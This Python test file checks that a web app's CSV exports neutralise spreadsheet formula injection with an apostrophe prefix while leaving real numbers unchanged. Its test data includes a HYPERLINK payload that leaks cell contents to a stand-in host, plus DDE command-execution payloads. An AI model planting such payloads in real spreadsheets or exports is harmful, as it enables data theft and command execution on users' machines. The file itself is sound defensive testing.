"""CSV injection: formula-like text from contributors is exported inert, numbers stay numbers.

A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is run
as a formula by spreadsheet programs (``=HYPERLINK(…)`` exfiltrates, ``=cmd|…``
executes). Incidents carrying such text arrive through the API and the CSV
import; the public CSV export must prefix each of those cells with an
apostrophe (``app/spreadsheet.csv_writer``), so no cell of the file
starts a formula, while a real number (a confidence, ``-12.5``) stays a number.
"""
import copy
import csv
import io

from app.extensions import db
from app.incidents.models import Incident
from app.spreadsheet import FORMULA_START, NUMBER as _NUMBER
from app.interchange.importer import import_stream
from tests.security.conftest import FEATURE

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
)


def _post(client, headers, title, summary, actor):
    body = copy.deepcopy(FEATURE)
    body["properties"].update(title=title, summary=summary, actor=actor)
    response = client.post("/api/v1/incidents", json=body, headers=headers)
    assert response.status_code == 201, response.get_json()
    return response.get_json()["id"]


def _publish(client, headers, incident_id):
    response = client.patch(f"/api/v1/incidents/{incident_id}", headers=headers,
                            json={"properties": {"status": "published", "version": 1}})
    assert response.status_code == 200, response.get_json()


def _import_csv(user, payloads):
    """The same payloads through the CSV import, published by an editor."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)  # quotes cells holding CR or LF
    writer.writerow(["title", "summary", "start_date", "actor", "vectors", "wkt",
                     "confidence"])
    for i, payload in enumerate(payloads):
        writer.writerow([payload, payload, "2025-01-01", f"{payload} {i}", "cyber",
                         "POINT (2 48)", "70"])
    result = import_stream(io.BytesIO(buffer.getvalue().encode()), fmt="csv", user=user,
                           publish=True)
    assert result.ok, result.report()
    return result.ids


def _exported_rows(client):
    response = client.get("/export/incidents.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_formula_cells_from_api_and_import_are_exported_inert(client, token, make_user):
    _, contributor = token("contributor")
    editor, editor_headers = token("editor")
    ids = [_post(client, contributor, p, p, f"{p} actor") for p in PAYLOADS]
    ids.append(_post(client, contributor, "-12.5", "42", "Plain actor"))
    for incident_id in ids:
        _publish(client, editor_headers, incident_id)
    ids += _import_csv(editor, PAYLOADS)
    db.session.commit()

    rows = _exported_rows(client)
    assert len(rows) == len(ids)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START) or _NUMBER.match(cell), (column, cell)

    stored = {i.title: i for i in db.session.scalars(db.select(Incident))}
    by_title = {row["title"]: row for row in rows}
    for title, incident in stored.items():
        if not title.startswith(FORMULA_START) or _NUMBER.match(title):
            continue
        row = by_title["'" + title]          # the exact stored text, behind an apostrophe
        assert row["summary"] == "'" + incident.summary
        assert row["actor"] == "'" + incident.actor.name
    # Every payload kind reached the export (the API and the import both kept them).
    for payload in PAYLOADS:
        assert any(row["title"].lstrip("'").strip() == payload.strip() for row in rows)
    # Real numbers are still numbers: no apostrophe before them.
    number_row = by_title["-12.5"]
    assert number_row["summary"] == "42"
    assert {row["confidence"] for row in rows} <= {"60", "70"}



def test_barometer_csv_downloads_neutralise_actor_names(client, make_incident):
    """Finding 4: the barometer's CSVs went out raw while the export was safe."""
    for i, payload in enumerate(PAYLOADS[:4]):
        make_incident(title=f"Incident {i}", actor=payload, start_date="2025-05-02",
                      countries=["FRA"])
    for figure in ("actors", "actors_by_country"):
        response = client.get(f"/barometer.csv?quarter=2025-Q2&figure={figure}")
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
        actors = {row["actor"] for row in rows}
        assert actors == {"'" + p for p in PAYLOADS[:4]}, (figure, actors)
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(FORMULA_START) or _NUMBER.match(cell), cell


def test_one_writer_makes_every_csv_of_the_app():
    """Every module that writes CSV uses ``app.spreadsheet.csv_writer``."""
    from pathlib import Path
    root = Path(__file__).resolve().parents[2] / "app"
    raw = [str(p.relative_to(root)) for p in root.rglob("*.py")
           if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()]
    assert raw == ["spreadsheet.py"]
